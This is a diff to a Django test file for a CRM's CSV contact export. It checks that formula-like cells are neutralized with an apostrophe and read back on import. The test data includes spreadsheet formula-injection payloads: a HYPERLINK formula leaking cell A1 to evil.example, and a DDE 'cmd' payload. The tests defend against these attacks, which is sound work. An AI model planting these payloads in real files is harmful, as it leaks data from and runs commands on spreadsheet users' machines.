@@ -13,9 +13,10 @@ from django.urls import reverse
 
 from consent.models import ConsentEvent, Purpose
 from consent.services import consent_record
-from contacts.export_formats import neutralize
-from contacts.models import ContactMethod
+from contacts.export_formats import neutralize, unneutralize
+from contacts.models import Contact, ContactMethod
 from socialcrm.audit.models import AuditEvent
+from tests.contacts.importing import run_import
 from tests.factories import ContactFactory, ContactMethodFactory, OrganizationFactory, TagFactory
 
 pytestmark = pytest.mark.django_db
@@ -39,12 +40,26 @@ def _rows(response: Any) -> list[dict[str, str]]:
         ("@SUM(A1)", "'@SUM(A1)"),
         ("\tcmd", "'\tcmd"),
         ("\rcmd", "'\rcmd"),
+        # Spreadsheets trim leading blanks before deciding a cell is a formula.
+        (' =HYPERLINK("http://evil.example","x")', '\' =HYPERLINK("http://evil.example","x")'),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r\n@SUM(A1)", "'\r\n@SUM(A1)"),
+        ("\n-2", "'\n-2"),
         ("Ann = Bob", "Ann = Bob"),
+        ("  Ann", "  Ann"),
         ("", ""),
     ],
 )
 def test_formula_like_cells_are_neutralized(value: str, expected: str) -> None:
     assert neutralize(value) == expected
+
+
+@pytest.mark.parametrize(
+    ("cell", "value"),
+    [("'+44 20 7946 0001", "+44 20 7946 0001"), ("' =1", " =1"), ("'Tis", "'Tis"), ("''", "''"), ("+1", "+1")],
+)
+def test_the_importer_reads_a_neutralized_cell_back(cell: str, value: str) -> None:
+    assert unneutralize(cell) == value
 
 
 def test_csv_export_of_the_filtered_list(alice, team, client_for) -> None:
@@ -86,6 +101,29 @@ def test_formula_injection_is_neutralized_in_the_csv(alice, team, client_for) ->
     assert row["name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
     assert row["title"] == "'@SUM(1+1)"
     assert row["notes"] == "'-cmd|' /C calc'!A0"
+
+
+def test_csv_export_imports_back_with_the_same_phones_and_names(alice, team, client_for) -> None:
+    ann = ContactFactory(team=team, first_name="Ann", last_name="Able", display_name="Ann Able", title="-")
+    ContactMethodFactory(contact=ann, kind="email", value="ann@northwind.example", is_primary=True)
+    ContactMethodFactory(contact=ann, kind="phone", value="+44 20 7946 0001", normalized="+442079460001")
+    ann.last_contacted_at = ann.created_at
+    ann.save()
+    exported = _body(client_for(alice).get(reverse("contacts:export_csv")))
+    assert "'+44 20 7946 0001" in exported  # neutralized for spreadsheets
+    ContactMethod.objects.all().delete()
+    ann.delete()
+
+    job = run_import(alice, team, "contacts.csv", exported.encode())
+
+    assert job.counts == {"create": 1}
+    back = Contact.objects.get()
+    # The apostrophe our export adds is read back off; the export's dates are not a name.
+    assert (back.display_name, back.first_name, back.last_name, back.title) == ("Ann Able", "Ann", "Able", "-")
+    assert sorted(back.methods.values_list("kind", "value")) == [
+        ("email", "ann@northwind.example"),
+        ("phone", "+44 20 7946 0001"),
+    ]
 
 
 def test_vcard_export_reads_back(alice, team, client_for) -> None:
